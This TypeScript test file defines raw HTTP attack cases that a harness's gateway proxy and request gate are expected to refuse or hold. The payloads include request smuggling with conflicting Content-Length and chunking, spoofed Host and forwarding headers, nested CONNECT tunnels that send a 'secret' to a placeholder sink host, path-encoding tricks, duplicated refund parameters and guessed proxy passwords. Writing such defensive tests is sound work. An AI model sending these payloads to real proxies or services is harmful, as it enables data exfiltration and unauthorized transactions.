import type { Family } from '../attack.ts';
import { rawAttacks } from '../bench/raw-attack.ts';

const REFUND = 'payment=pay_000002&amount=420.00&reason=Duplicate';
const OWN = 'Host: PRODUCT\nOrigin: http://PRODUCT\nSec-Fetch-Site: same-origin';
const FORM = 'Content-Type: application/x-www-form-urlencoded';
const refund = (headers = '', path = '/invoices/INV-1042/refunds', body = REFUND) =>
  `POST http://PRODUCT${path} HTTP/1.1\n${OWN}\n${FORM}\n${headers}Content-Length: ${body.length}\n\n${body}`;
const chunked = (body: string, extension = '') => `${body.length.toString(16)}${extension}\n${body}\n0\n\n`;

/** Bytes on the gateway's port that no browser would write. */
export const proxyProtocol: Family = {
  group: 'proxy',
  rows: {
    'PXY-01': 'a way round the proxy in how the browser is launched',
    'PXY-07': 'a tunnel inside a tunnel',
    'PXY-08': 'a tunnel to the proxy itself, or to the review page',
    'PXY-09': 'an address and a Host that differ',
    'PXY-10': 'Host headers that are several, or odd',
    'PXY-11': 'requests hidden in requests',
    'PXY-12': 'a second request on the same connection',
    'PXY-13': 'bodies where none is expected',
    'PXY-14': 'a body that waits for the go-ahead',
    'PXY-16': 'headers that rewrite the address or the method',
    'PXY-17': 'paths that the router reads in another way',
    'PXY-18': 'parameters given twice',
    'PXY-21': 'requests of the harness’ own process',
    'PXY-22': 'extensions, native messages, crash reports, printing',
    'PXY-30': 'credentials that are missing, wrong, or another run’s',
    'PXY-31': 'redirects given to a raw client',
    'PXY-32': 'tunnels to hosts that are not listed',
  },
  attacks: rawAttacks([
    {
      id: 'PXY-07',
      technique: 'a tunnel asked for inside a tunnel to the product',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: [
        'CONNECT PROXY_HOST HTTP/1.1\nHost: PROXY_HOST\n\n',
        'CONNECT SINK_HOST HTTP/1.1\nHost: SINK_HOST\nCREDENTIALS\n\n',
        'secret',
      ],
    },
    {
      id: 'PXY-07b',
      technique: 'another host’s request inside a tunnel to the listed host',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: ['CONNECT SINK_HOST HTTP/1.1\nHost: LURE_HOST\n\n', 'GET /x HTTP/1.1\nHost: LURE_HOST\n\n'],
    },
    {
      id: 'PXY-08',
      technique: 'the proxy’s own address, to be asked from there',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: [
        'CONNECT PROXY_HOST HTTP/1.1\nHost: PROXY_HOST\n\n',
        'GET http://SINK_HOST/x HTTP/1.1\nHost: SINK_HOST\nCREDENTIALS\n\n',
      ],
    },
    {
      id: 'PXY-09a',
      technique: 'an unlisted address under the Host of a listed one',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: ['GET http://SINK_HOST/x HTTP/1.1\nHost: LURE_HOST\nSec-Fetch-Site: none\n\n'],
    },
    {
      id: 'PXY-09b',
      technique: 'an unlisted address under the Host of the product',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: ['GET http://SINK_HOST/x HTTP/1.1\nHost: PRODUCT\nSec-Fetch-Site: none\n\n'],
    },
    {
      id: 'PXY-09c',
      technique: 'a path only, under an unlisted Host',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: ['GET /x HTTP/1.1\nHost: SINK_HOST\n\n'],
    },
    {
      id: 'PXY-10a',
      technique: 'two Host headers, the unlisted one last',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: ['GET http://SINK_HOST/x HTTP/1.1\nHost: LURE_HOST\nHost: SINK_HOST\n\n'],
    },
    {
      id: 'PXY-10b',
      technique: 'two Host headers, the unlisted one first',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: ['GET /x HTTP/1.1\nHost: SINK_HOST\nHost: LURE_HOST\n\n'],
    },
    {
      id: 'PXY-10c',
      technique: 'a user name in the Host header',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: ['GET /x HTTP/1.1\nHost: LURE_HOST@SINK_HOST\n\n'],
    },
    {
      id: 'PXY-10d',
      technique: 'an address with a user name',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: ['GET http://LURE_HOST@SINK_HOST/x HTTP/1.1\nHost: SINK_HOST\n\n'],
    },
    {
      id: 'PXY-11a',
      technique: 'a refund behind a body whose length and chunks disagree',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: [
        `POST http://PRODUCT/tickets/T-1007/notes HTTP/1.1\n${OWN}\nContent-Length: 5\nTransfer-Encoding: chunked\n\n0\n\n${refund('CREDENTIALS\n')}`,
      ],
    },
    {
      id: 'PXY-11b',
      technique: 'a refund whose headers end lines with a line feed alone',
      mustStop: 'request_gate',
      expects: 'held',
      bytes: [refund('X-A: bLF')],
    },
    {
      id: 'PXY-11c',
      technique: 'a refund with a folded header',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: [refund('X-A: b\n c\n')],
    },
    {
      id: 'PXY-11d',
      technique: 'a refund in chunks',
      mustStop: 'request_gate',
      expects: 'held',
      bytes: [
        `POST http://PRODUCT/invoices/INV-1042/refunds HTTP/1.1\n${OWN}\n${FORM}\nTransfer-Encoding: chunked\n\n${chunked(REFUND)}`,
      ],
    },
    {
      id: 'PXY-11e',
      technique: 'a refund in chunks with extensions',
      mustStop: 'request_gate',
      expects: 'held',
      bytes: [
        `POST http://PRODUCT/invoices/INV-1042/refunds HTTP/1.1\n${OWN}\n${FORM}\nTransfer-Encoding: chunked\n\n${chunked(REFUND, ';x=y')}`,
      ],
    },
    {
      id: 'PXY-11f',
      technique: 'a refund with trailers',
      mustStop: 'request_gate',
      expects: 'held',
      bytes: [
        `POST http://PRODUCT/invoices/INV-1042/refunds HTTP/1.1\n${OWN}\n${FORM}\nTrailer: X-A\nTransfer-Encoding: chunked\n\n${REFUND.length.toString(16)}\n${REFUND}\n0\nX-A: b\n\n`,
      ],
    },
    {
      id: 'PXY-12a',
      technique: 'a refund behind a harmless request in the same packet',
      mustStop: 'request_gate',
      expects: 'held',
      bytes: [`GET http://PRODUCT/tickets HTTP/1.1\n${OWN}\n\n${refund('CREDENTIALS\n')}`],
    },
    {
      id: 'PXY-12b',
      technique: 'a refund behind a harmless request on the same connection',
      mustStop: 'request_gate',
      expects: 'held',
      bytes: [`GET http://PRODUCT/tickets HTTP/1.1\n${OWN}\n\n`, refund('CREDENTIALS\n')],
    },
    {
      id: 'PXY-12c',
      technique: 'an unlisted host behind the product on the same connection',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: [
        `GET http://PRODUCT/tickets HTTP/1.1\n${OWN}\n\n`,
        'GET http://SINK_HOST/x HTTP/1.1\nHost: SINK_HOST\nCREDENTIALS\n\n',
      ],
    },
    {
      id: 'PXY-12d',
      technique: 'a request behind one that left its credentials out',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: [
        `GET http://LURE_HOST/ HTTP/1.1\nHost: LURE_HOST\nSec-Fetch-Site: none\n\n`,
        'POST http://SINK_HOST/x HTTP/1.1\nHost: SINK_HOST\nContent-Length: 6\n\nsecret',
      ],
    },
    {
      id: 'PXY-13',
      technique: 'a GET with a secret in its body',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: [`GET http://SINK_HOST/x HTTP/1.1\nHost: SINK_HOST\nContent-Length: 6\n\nsecret`],
    },
    {
      id: 'PXY-14',
      technique: 'a refund whose body waits for the go-ahead',
      mustStop: 'request_gate',
      expects: 'held',
      bytes: [
        `POST http://PRODUCT/invoices/INV-1042/refunds HTTP/1.1\n${OWN}\n${FORM}\nExpect: 100-continue\nContent-Length: ${REFUND.length}\n\n`,
        REFUND,
      ],
    },
    ...(
      [
        ['PXY-16a', 'X-Forwarded-Host: evil.example'],
        ['PXY-16b', 'X-Original-URL: /tickets'],
        ['PXY-16c', 'X-Rewrite-URL: /tickets'],
        ['PXY-16d', 'X-Method-Override: GET'],
        ['PXY-16e', 'Forwarded: for=127.0.0.1;host=evil.example'],
        ['PXY-16f', 'X-Forwarded-For: 127.0.0.1'],
      ] as const
    ).map(([id, header]) => ({
      id,
      technique: `a refund that says ${header}`,
      mustStop: 'request_gate' as const,
      expects: 'held' as const,
      bytes: [refund(`${header}\n`)],
    })),
    ...(
      [
        ['PXY-17a', '/tickets/%2e%2e/invoices/INV-1042/refunds', 'dots in percent signs'],
        ['PXY-17b', '/tickets/../invoices/INV-1042/refunds', 'dots'],
        ['PXY-17c', '/%69nvoices/INV-1042/refunds', 'a letter in percent signs'],
        ['PXY-17d', '/invoices/INV-1042/refunds?x=/tickets', 'a harmless path in its query'],
        ['PXY-17e', '/invoices/INV-1042/refunds#/tickets', 'a harmless path behind a hash'],
        ['PXY-17f', '/invoices/INV%2D1042/refunds', 'a sign of the id in percent signs'],
      ] as const
    ).map(([id, path, what]) => ({
      id,
      technique: `a refund whose path has ${what}`,
      mustStop: 'request_gate' as const,
      expects: 'held' as const,
      bytes: [refund('', path)],
    })),
    {
      id: 'PXY-18a',
      technique: 'a refund with its amount twice, the small one first',
      mustStop: 'request_gate',
      expects: 'held',
      bytes: [refund('', undefined, `payment=pay_000002&amount=0.01&amount=420.00&reason=x`)],
    },
    {
      id: 'PXY-18b',
      technique: 'a refund with its amount twice, the small one last',
      mustStop: 'request_gate',
      expects: 'held',
      bytes: [refund('', undefined, `payment=pay_000002&amount=420.00&amount=0.01&reason=x`)],
    },
    {
      id: 'PXY-18c',
      technique: 'a refund with a harmless action in its query',
      mustStop: 'request_gate',
      expects: 'held',
      bytes: [refund('', '/invoices/INV-1042/refunds?action=view&_method=GET')],
    },
    {
      id: 'PXY-30a',
      technique: 'a request after the run’s credentials were left out',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: ['', 'GET http://SINK_HOST/x HTTP/1.1\nHost: SINK_HOST\n\n'],
      lists: ['SINK_HOST'],
    },
    {
      id: 'PXY-30b',
      technique: 'a guessed password',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: [
        '',
        'GET http://SINK_HOST/x HTTP/1.1\nHost: SINK_HOST\nProxy-Authorization: Basic cnVuOnBhc3N3b3Jk\n\n',
      ],
      lists: ['SINK_HOST'],
    },
    {
      id: 'PXY-30c',
      technique: 'a name that every object has',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: [
        '',
        'GET http://SINK_HOST/x HTTP/1.1\nHost: SINK_HOST\nProxy-Authorization: Basic X19wcm90b19fOg==\n\n',
      ],
      lists: ['SINK_HOST'],
    },
    {
      id: 'PXY-32a',
      technique: 'a tunnel to an unlisted host',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: ['CONNECT SINK_HOST HTTP/1.1\nHost: SINK_HOST\n\n', 'secret'],
    },
    {
      id: 'PXY-32b',
      technique: 'a tunnel whose first bytes come at once',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: ['CONNECT SINK_HOST HTTP/1.1\nHost: SINK_HOST\n\nsecret'],
    },
    {
      id: 'PXY-32c',
      technique: 'an upgrade to an unlisted host',
      mustStop: 'gateway',
      expects: 'refused',
      bytes: [
        'GET http://SINK_HOST/s HTTP/1.1\nHost: SINK_HOST\nUpgrade: websocket\nConnection: Upgrade\nSec-WebSocket-Version: 13\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\n\n',
      ],
    },
  ]),
  elsewhere: {
    'PXY-01': {
      why: 'it needs a browser that is launched wrongly on purpose',
      instead:
        '`harness/browser/launch-contained.e2e.test.ts`, with its control; the variable that opens the way is refused at the start',
    },
    'PXY-21': {
      why: 'it is about the harness’ own code, in which nothing may ask around the gateway',
      instead: '`repo.test.ts`: Playwright is known to one folder, and that one has no such call',
    },
    'PXY-22': {
      why: 'a headless shell has no extensions, no native messages and no printer',
      instead: 'the namespace, in which there is nothing to reach',
    },
    'PXY-31': {
      why: 'a raw client follows nothing by itself: there is no control for it',
      instead: 'NET-52, NET-54 and NET-57, in which the browser follows',
    },
  },
};
